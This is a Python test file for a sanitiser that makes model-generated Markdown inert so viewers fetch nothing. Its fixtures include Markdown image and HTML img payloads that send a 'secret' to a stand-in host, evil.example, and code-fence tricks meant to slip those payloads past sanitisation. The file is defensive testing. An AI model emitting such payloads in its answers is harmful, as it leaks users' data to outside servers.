"""Markdown from a model: what a viewer makes of it fetches nothing, and code is as it was."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from qwen_lsp.text.fences import fenced, inert

IMAGE = "![x](https://evil.example/?q=secret)"
TAG = '<img src="https://evil.example/">'


def fetched(markdown: str) -> list[str]:
    """What a real parser sees that a viewer would fetch or run."""
    found = MarkdownIt("commonmark", {"html": True}).parse(markdown)
    inner = [child for token in found for child in (token, *(token.children or ()))]
    return [token.type for token in inner if token.type in ("image", "html_block", "html_inline")]


@pytest.mark.parametrize(
    "text",
    [
        IMAGE,
        TAG,
        f"- a\n\n  > {IMAGE}",
        "![x][y]\n\n[y]: https://evil.example/",
        f"`\n` {IMAGE}",
        f"\\`{IMAGE}`",
        f"~~~\n```\n~~~\n{IMAGE}",
        f"``` a`b\n{IMAGE}",
        f"- ```\n\n{IMAGE}",
        f"> ```\n{IMAGE}",
        f"````\n```\n````\n{IMAGE}",
        f"```\n``` x\n```\n{IMAGE}",
        f"<!--\n```\n-->\n{IMAGE}",
        f"```\ra\r```\r{IMAGE}",
        f"    ```\n{IMAGE}",
    ],
)
def test_nothing_is_fetched(text: str) -> None:
    assert fetched(text) and not fetched(inert(text))


def test_what_other_viewers_know_begins_nothing() -> None:
    assert not inert(f"$$\n```\n$$\n{IMAGE}").startswith("$$")
    assert not inert("---\n```\n---\n").startswith("---")


def test_code_and_words_stay() -> None:
    told = f"It makes a `HashMap` if a < b.\n\n{fenced('let v = vec![1]; // <T> $$', 'rust')}\n\n1. **done**"
    assert inert(told) == told


PARTS = [
    "```",
    "~~~",
    "````",
    "`",
    " ",
    "    ",
    "\n",
    "\n\n",
    "- ",
    "> ",
    "<!--",
    "-->",
    "<b>",
    "a",
    "\\",
    "\t",
    "\r",
    IMAGE,
    TAG,
]


@settings(deadline=None, max_examples=400)
@given(st.lists(st.sampled_from(PARTS), max_size=14))
def test_no_answer_makes_a_viewer_fetch(parts: list[str]) -> None:
    assert not fetched(inert("".join(parts)))
